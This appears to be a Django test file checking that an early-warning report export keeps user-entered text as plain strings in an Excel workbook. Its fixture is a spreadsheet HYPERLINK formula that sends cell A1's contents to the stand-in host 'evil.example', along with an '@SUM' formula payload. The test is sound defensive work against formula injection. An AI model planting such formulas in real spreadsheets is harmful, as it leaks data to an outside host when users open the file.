"""The early-warning export writes what was reported as text, never as a live formula."""

import io

from django.urls import reverse
from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"查看详情")'


def test_a_hyperlink_formula_in_a_report_stays_text(make_warning, users, login):
    make_warning(summary=HYPERLINK, facts="@SUM(1+1)\x07")
    response = login(users["inspector"]).get(reverse("earlywarning:warning_export"), {"year": 2026})
    assert response.status_code == 200
    row = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))[0]
    summary, facts = row[4], row[5]
    assert (summary.value, summary.data_type) == (HYPERLINK, "s")
    assert (facts.value, facts.data_type) == ("@SUM(1+1)", "s")
